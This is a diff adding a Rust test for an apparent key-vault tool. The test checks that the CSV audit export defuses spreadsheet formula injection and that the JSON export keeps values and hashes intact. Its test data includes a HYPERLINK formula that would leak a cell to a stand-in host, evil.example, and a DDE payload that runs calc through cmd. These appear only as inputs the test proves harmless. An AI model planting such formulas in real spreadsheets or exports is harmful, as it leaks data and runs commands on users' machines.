@@ -539,3 +539,31 @@ fn a_filtered_audit_says_reads_on_other_machines_are_not_in_this_journal() {
         assert!(!String::from_utf8_lossy(&out.stderr).contains(scope));
     }
 }
+
+/// Text a writer chose (a reason, `$USER`) that a spreadsheet would run as a formula
+/// starts with `'` in the CSV export; the JSON exports keep it exact, with its hash.
+#[test]
+fn a_csv_export_never_hands_a_spreadsheet_a_formula() {
+    let mut kw = Sandbox::with_vault();
+    kw.generate("K");
+    kw.set_env("USER", "@SUM(1+1)*cmd|' /C calc'!A0");
+    let formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"details\")";
+    kw.cmd(["revoke", "--yes", "K", "--reason", formula])
+        .assert()
+        .success();
+    let rows = parse_csv(&kw.stdout(["audit", "export", "--format", "csv"]));
+    let revoke = rows.iter().find(|r| r[4] == "revoke").unwrap();
+    assert_eq!(revoke[11], format!("'{formula}"));
+    assert_eq!(revoke[8], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    for row in &rows {
+        for cell in row {
+            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
+        }
+    }
+    let json: Vec<serde_json::Value> =
+        serde_json::from_str(&kw.stdout(["audit", "export", "--format", "json"])).unwrap();
+    let e = json.iter().find(|e| e["action"] == "revoke").unwrap();
+    assert_eq!(e["reason"], formula);
+    assert_eq!(rehash(e), e["hash"].as_str().unwrap());
+    assert_eq!(revoke[14], e["hash"].as_str().unwrap());
+}
